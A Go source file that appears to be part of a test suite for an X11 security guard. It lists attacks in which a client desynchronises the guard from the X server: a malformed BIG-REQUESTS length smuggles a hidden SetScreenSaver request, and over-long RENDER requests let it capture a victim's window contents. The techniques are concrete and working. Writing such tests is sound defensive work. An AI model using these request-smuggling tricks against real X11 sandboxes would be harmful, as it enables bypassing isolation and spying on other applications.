package x11

import "bytes"

// nativeAttacks are those of code that knows the guard, and the server behind it.
var nativeAttacks = []attack{
	{"requests that are hidden in a large one", func(a *peer, v *victim) bool {
		big, _ := a.opcode("BIG-REQUESTS")
		// The server refuses to go over to large requests, for this has the wrong
		// length. What the guard would take for the length of the next one is a
		// NoOperation of two units to it, and the rest are requests.
		const units = 0x2007f
		rest := append(make([]byte, 4), build(107, 0, pack(77, 77), 0)...) // SetScreenSaver
		rest = append(rest, bytes.Repeat(noOperation, units-2-len(rest)/4)...)
		b := append(append([]byte{127, 0, 0, 0}, order.AppendUint32(nil, units)...), rest...)
		a.send(build(big, 0, 0))
		_, _ = a.conn.Write(b)
		a.gone = true
		for range 100 {
			if r, _ := v.ask(build(108, 0)); order.Uint16(r[8:]) == 77 {
				v.send(build(107, 0, pack(0, 0), 0))
				v.sync()
				return true
			}
		}
		return false
	}},
	{"RENDER picture of its own window, which it has not freed", func(a *peer, v *victim) bool {
		w := a.window(victimX-100, victimY, 100, 100, 0x222222, 0)
		return under(a, func(pixmap, gc uint32) {
			render, to := a.picture(pixmap, false)
			_, from := a.picture(w, true)
			a.send(build(render, 7, from, 0)) // too long: the server refuses
			a.composite(render, from, to, 100, 0)
		})
	}},
	{"RENDER picture of its own window, which it has not destroyed", func(a *peer, v *victim) bool {
		w := a.window(victimX-100, victimY, 100, 100, 0x222222, 0)
		return under(a, func(pixmap, gc uint32) {
			render, to := a.picture(pixmap, false)
			a.send(build(4, 0, w, 0)) // too long
			_, from := a.picture(w, true)
			a.composite(render, from, to, 100, 0)
		})
	}},
}
